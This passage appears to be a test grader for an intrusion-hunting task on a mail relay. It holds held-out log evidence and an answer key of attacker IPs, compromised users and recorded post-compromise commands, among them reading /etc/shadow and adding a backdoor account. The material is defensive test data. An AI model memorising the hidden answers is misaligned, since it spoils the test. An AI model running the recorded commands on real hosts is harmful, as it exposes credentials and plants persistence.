8ErAMNAABnmIKgmQIAAA==',
            'allowlist.txt': 'H4sIAAAAAAACAx3MQQqDMBBG4b2n+MF9TI2U0tuMYQpBmchkRuntG7t88PFGVFfUS1Dko9RMPZsrvyF8soLMKG+sbXjE8EohzSFOcwQw4vRdWGkte7EvWibpebtnWNLNlj9b+8CP/rOr6jb8ACeEKEVyAAAA',
            'audit.log': 'H4sIAAAAAAACA+WbW2/bNhSA3/crjLx0AwaGl8NDsoBRBEm7FVi3oZfnwrHdxEUiBZbUdf9+51ARlcbypa3ietFDEVlxFZ1P5DkfKbL892Y+fvfm+ev3p6/ORtfFxXhSzRblzwoDGC3RO2EQnoLS7peno5vFbKzRqFFFB0pKPZqko2JejEGqUVGdfxxX2TTPPiyy+Sxe88n0n9n46Pgyv54fzybZ5Gg0vaYrvXDWGaf1C9QY8Dn9PEE+p/E5KjxF4wBPtdRnzmpJ3zToR/PPc7pSVSyPzxfZcVHN8qNROV9eL7LJ1fimLI7laEl3UlTT6bwonrx7eTY+qv/kSXv8U5nCPnn39veVuMHbIIK2HLdPcYOLccs6aNABAjodbB36nY9dBPKb8d8nr55OqvJynpWL6aRc5NnoYjnJynxZjJ+NJtNp2dxqG2QRoywuZ0ejy7wos8n1fIxKGC+U8kIbupnZbHnvVOJB/zHS+DBZXM1nNYxlnpcNjCor5uV2GkFp4WoaIdFw9uFp1Pd6WDSslFZQWyAaRiYafqBtw0qPwoNnGirRCHKgbUNBEC7EtqEbGk7hQNuGxtQ2TKKhh5o3tLNCask0oKUx1LYB8fJcU4xNNAw8HI2byfX7Klt8flAoX2jHZiqnp2+7qQQT2wj2S2U6zSuikl0cLJE//vrt5Z9dSHTTbdwaJMk/lVNrKVzlF4ts1Hx7c5jPNoZ2PJt/OmbVtJsjrIF2SWeXa1sLsgk0Oaezcp1rW/xO1zaoHJBdv0BLnm3oG+TX5N1ADu62ezZ8nWd3huydaUJOYunQrQ1Z4jeFTIHdBs1nkAcYHCYHf4ZncYBhIogGDf2eYcRBR6B/1kmE7UjU1yF58/bk9WoOQG9BOOAxFzR+CYhfVE0ZcRizuc/TdwpKge/zm/m9PBj7Al3oV/4wzz7FnzccSvnrvazQWUqnyzxb7S7PWhr8hc2dIx5vgwEqmCBIJxlGo5dAjXUVhnfweGB0lUwgDCCMig2jlcvgH14gquvJcltlUN4KrYJQ0ghql5HBvXP9KgRQWDQsDYp5JL30EgfLA6iAoArMIwmmV2qwPKhcUO5gxYSkmF6bwfJAcCIEZB5JLj3KwxiA/BAeXkiMtSWZpfd+ADw6i20g3aHRh4sJpDFQsF8WmLrYUqp53OYBxvgAwvrYW0LSsNBhHi6ERw7D6+Ck8Iq7ik1OCl6twgCy98cNg8YD0gqreZLPJid12q3C0BoftZNaGplJJcDzFJ9tnNQYd0g11jiBljzgTgpNp3qtKEzDkZEqzTRMS8MdUEXZLw0vaBjNNCDR8Powpn/3ToMGKcLFemJtorGPFyUH2VMMaqGBVcM2LmpA62H2FOWCExIM03CJxkNOhjc0LiezPL/ZyoOKPxknCoX6FsfdM33T8Jqu66Js+ETD7qGmXFTzojwwGEHxOzSe9LGhhbGHQUp5gCyoAwbkboIyscA9lNfqvMrK6rBoaGmNIP1iGirRCG6YSYPGroFElNULk4haBYNMGlorJ3ScGcXkoRYGmTRoDBaEkzwLiMlCrdUDTRo6jlDYQjFZqEUz0KRhJIpQ95NkoXYfS7kOMWkYoOEaspJjklCUcpBJg4YiwtvIIikoGjPQpGG1EsHzhBcmB0U70OGJtoFfw7KFOtnSGGTSoLhoXCzj+3mXJNSpA5nj0VIJbaFewUMuGHHcP/kdRFaXcFkDzhmhJVdYl0SU35fsYwnX+cd8me3QQpQwUlDVb9pH87nn1Vu3NEy0L2fW0FCSl/XwixQld1q9hbut3uqKKy3dMpvDuwXZHm5cyWRppIEgguV5cJcs0/m0eAvvhWqD3rqS6fYe1i9lQnQuLlECXsnF39i+REmvxn37d+4GvqXbUw9HKSTEx5o00ssDmcx86G7fSUTzYoO6KmBLBAZMhFqkoAbKRFxLJAyjNHQSsXRd59kqXbJKDzjgNoJGCe/YLF0yS2/VgIkESWVLsz74ZJfeH8iLkR8gVGBIMymPsGL6pJihlz0124XqA8G6nuxgVJYZ0CgpJPdoz/RtVTUSH1cgeL0GCamGiTBQ6p2syuxsVR2RJa9SmwNseN453vb8gWRD2DjE8Ekhgw57ef5Xk2Wxw9PXWihDo0KXGLVnen/6EQg6dk0Pa4DQ84TbHRG7PX3Y+el3RJaePmwOsKaZjjY7NVjpqa3Ft6I+SWYAM0oBfhkq/WabUtc38HB7jzvir//knfi3tHcrQQZh4lDCJ5MMuJ98d1ld5Du0d6AahUjZvp1iuHOq7xZfI4G4stm7NUioGdQwUO/W4u3OLb4rtF0TXg00HW0p/xZoHEFtPpb/tART7kOIdsx0lHpAiyDbIXZzol8RYhIgJMYal9ZfSjdIEhDostz6g2xJ4N62SvYP5Lu2STIRKwWlfSai+iXSmxI8CI3u9FjjCBGHXoMjVUnjevaB1bh2zY3rdaDzqXsv8fYFVWhEEHQv+1v62RzLckQ8yM0VZezkS+2p3p98ROINu0KANUjS7slNO+S+YXPsmtDSw5f9bY61NmjNe3G5LgabAtXrN8ca832bY5WTvDm23vnJ06tov2ly9Wv3f5KAWsd2zXOrAdMuDNuxC8Pq//1a+/8ACbqZpn9IAAA=',
            'journal.json': 'H4sIAAAAAAACA91d224bORJ9369o+GkGWMtkVbFIOvCDkTgzBuIksL1Y5MlotVqxJrLa0CUzwWD+fUld4stGUbdEWaQSwLpfzuE5VSze9PfBzc3l2em76/OLsxv/5+r69OLjwXF2INkSgpHWium/g39nBze/f7i6fn96ceafcJf3+ofDsp9/O2z7B68+Xb378NvN+Zuz99fnb8/PLv2TXl9+eD995cfzN/42MUl/++Pl+YfL8+tP/j5+9Oq3p6/P383vl9PPdF/p6vS36Sfe53c3k0Hvr1+KYTU4HpWjUa8a/Hqcza9l1X05KDtZtxpmk1E5zIZVNf5l0uuciF+z9rdsfvXgn3/9vQo1oE4GddGvRs9Rr8RIQkqLQTFqNrG37BS1Tgb1ei0LyBy2ZZWJ3rMetRHJoF6vZZWSIIUFbfV6GEej287h/Ds8xgpW6LWxng++5v1eZwbkvpd1h9VdJkXLYAuhJZmz+2o4zpiss0qiGL+3p3/343wyvnWNWdyWxZfsPh+NXs3ATwZfBtWfg70C6S/KwbhX5GMv3K77dpNh+SrrV58H+V15kk0NmpWzi/H424l7dTb0fJxkw9tqND55rIVUuXnrPtkZ1jf2n9Vw5txeA+Fn7ltBLfCk2KACuT74p6DBhHH29M8yiGhApYYuvKdjB7cLL0fEyUoPr5R4bReDdp0Ra4hChzAlo5ZENuXwpOve7S5Plagf6WSGaJk4FCmLtcWBynkCwOhQnjAQJsQP8s+9arTUAYKBU8MXPMhHD24HQT4mTlYG+Roir+9klq7YNhrDRi8UklII85O7fJgqTT/SicezvBcPStcWBmlhlGCGMI5AAVuvz5HJcGrYgof36MHtILzHxMkGdfhU4A0czKhBAIcCTWL7dTgKSzY1dFvwcOTgduLheDjZqA6fSry2ixUiasEYvOdBvF91eIxErVGHC6tEfXFoq0mAlaExa/ES9ThpbShVnMGDfjIgdxD8Y+Rmwzp9Kv76TjdoyM6HFUISYM0+1ekx0tS0TkeLuv5QLAujpQGjAiOWgrZdr5PQRqaKMXj4TwbkDsJ/jNxsUMdPhV/f4UoIVkQcGjzC9ut5ZZTRqaIM7/FUQO7C4xFys1GdP5V+fZdrbSUZoQINb0im/arvYyKoeV3PAKJ+b19b4VKEEcG9YOxL1PXu+6NIFWfwoJ8MyB0E/Ri52bCun4q/ttOtFEzaBBvVBmH3qZ6PiZ7Gdbx0/xsIAckAAIZCCrz1+XbpWic1bMHDe/TgdhDWY+Jkk/l2L/C6DmYhTdDdO0QY/Z4lhxpEMqjX3LNkABUCagxVegCuL+fToijvx17Qk3a/V3wpv03x9PPhQ4+EWwZaysz7I2hptuz7ODt7A0pJm139fgqKj4u8i6h0p2AmNtTpoALVzYWxZdcveMu1ciW5FciQGk1PI+FqA3j+pqqXQlBDDxgFxFrZWZ8zBPANln4v0UcnHzzUprIFQreUXiwYhflo5P8JhPKcnSwKwG6OAsvSlMIwg8lLdF13brdtl9rdDmiVGk9NBeIJXAgEmgmEgV0iCbqxU0D0qcGhVumgXi81sDJWO/sIQaEkzcGt3/6jGg6+ex9bUtiWlPPsQNLoZebnom3JSouyLCyLts0L0wWLZLFdSt1294AgANlNjamm5p9SuHA/N/QBu/yJQCrU5gIEjVtNDwpbugVA8/6DAqNeID3ExdNLpgd2FZMrHpjXtcakUz0B7tpibeBZNg8Yx9n19aeT+/HoiLJX2cf/vjk5uq3uyqPZo6+y/1ydXZ74MOmuv/5wcXH63j1jMhoetXuDo9G30bi8K8b9bFiOxrmT0eBzb/BXamQ8qMC9a/Nc+Sxs1EBvDWkhleuxBx4QxQ1WrC+JGbeTz9VDWsEWSNUCFIspbjRmSdQoAUkVJbdL1yGUubuJbVdsdIqCRUeX3Clyy5CXHZ0qY02jh6dyoRPVLHpolKy0XxqnQxOgTGjJPJsjUy7N6JakRaXqdEE/1owkpaUquqXsirxsFx2hZKmQDRYllbIjCiwKo3MtOVXKmmpmxuVCNdhUNY5dTUqKYGGW1SY5Z66MZUln/vCKrDN23zw7HGRKZEdf8+FRv/rsM5G7SI2RDRPPc22shu968oLCHhiGKvoa1aEOXJlvE/VaNaoSKJHDHhhmo29Zj1rLZFCv17JSAAuXJlXwvg9JDDN5WA3zol/OE77x/UPdYtViO8/4UqNJFWjYmcSUQIaYUXwshlTJWTm1WEf+9eYXFUhXX4UdTkUbfRh3qEkng3q9MA4gOPS5jxh/y4LQkAzqNVvWr4NgIefHBQQY0mS7hcTsOsEtUOQnBVogaTExoJVJDWLglJwAuACp+Fnzp0ZLoyS8XOp107BVyrrK3l0LhN1FwTCWvs07VXX/E5woSHFqEINbOnpwu7F0TLSstHQ9qde2tJEslKHZHt+AtYUOdmJOezIYT36CV/lV0qlCDW7xZEDuxuox0rN6p10tC9S0PAkTeExUxb9Y16NWOhnU65VcyukBWSPZUH1Ta+2Wp0GdiqXEFhDOk5fLXnb786CRcfWS858OOkpgf56+CjPbR0LIoPOfsMb85x/VZDjI+37ZzeHECyg1Il562tMf7CqEdeWnDXS8OwkMvoDzySYz4tYs/S3OC5OwJFZ0baeNZW66jHk3zwu2RUeRpZJLzomhq4p2WwkXSzqpEdU0VngGF7KQDSOFP+GdCDWKsN0lkhK3uiRLOaWQbElYLMnyBwttf0lWpIy93JIsh5+dTUCv/5sRz2OqxI0WdE5l8ZBaxJPUMn1wRWLJ78fZ5L6Tj8vU0G+YUZ6qoAZ4oywbQBMsTEoV5TkeCNPJTKmhyY7uyPhZuaP7Ecr5SLGwNX9CxUF1GdP1rRnCQeW9kkJM/DSWAhrQuoEUyHWdkG3ojKjsnkkiPp4aS0MRaVtfGsCIev4jnCFcsME6tYduZf2Q6EI5JQn2BYsIlhx48Y4min680aFGTAb1euONLC0Y4Y8mCzSGRrBBh6bW5m9uSeHLwsVhlArlC+zvi4ypl9vf58ohCQaly2qhOjqgo+wIPlLWLOt70lLj50fZ/uf+sdbUPObJQ1UojNUUuoODMa7x3UQSEfLUWBpotTX1pWHJEAGFcgES7ZckIuKnsRSUFkrVlgJY0AZAyNDq1/sVJWLkqXkCcYEOakvD710FV0jZUC6w+9WXiImf5lJgqD1ywEhSan8aS6ATVYjEfkWHmPhpLAVGU3t8kTXpsGcPKi3jH17QZHQyqNcbXvA/exR2lwyFONZiyy3rUatkUK/bsoYAnH4RQoWnDVZc/3jgd/S1OBwV+eDJ+aguTjF8/x2T2ksu48LbdPhnwcRUwtY+1/P/ADuVAS2EjgAA',
            'timedatectl.txt': 'H4sIAAAAAAACA12MsQrCMBRF93zFHXUo1nayq7iJCMYPKLcPDKZ50DwK6deb1Z75nAP8cVeOERZmGXCgxig0mdC1Xd+0l+bcHx12+Cpj01SLm/H09lf3KtlkBqPyi1wSP4umsMk0oEjeHR7+iSzLGlgPIy2s4n7QWcuDlgAAAA=='},
  'host': 'mail-relay',
  'truth': {'blocklist': ['61.38.118.230', '146.194.188.171', '185.219.103.35', '185.237.65.69'],
            'findings': {'brute_force': [{'failures': 10, 'first_seen': '2023-09-10T11:55:04Z', 'ip': '185.219.103.35'},
                                         {'failures': 15, 'first_seen': '2023-09-12T09:07:56Z', 'ip': '185.237.65.69'}],
                         'compromised': [{'ip': '61.38.118.230', 'time': '2023-09-10T05:57:42Z', 'user': 'dana'},
                                         {'ip': '146.194.188.171', 'time': '2023-09-10T20:11:28Z', 'user': 'helpdesk'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/cat /etc/shadow',
                                                    'time': '2023-09-10T05:59:00Z',
                                                    'user': 'dana'},
                                                   {'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2023-09-10T06:04:33Z',
                                                    'user': 'dana'},
                                                   {'command': '/usr/bin/apt update',
                                                    'time': '2023-09-12T22:53:41Z',
                                                    'user': 'dana'}]}}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("part", [k for k in ("blocklist", "timeline") if k in VISIBLE])
def test_deliverable_on_this_host(part):
    msgs = problems("/srv/ir/out", {"findings": {}, part: VISIBLE[part]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
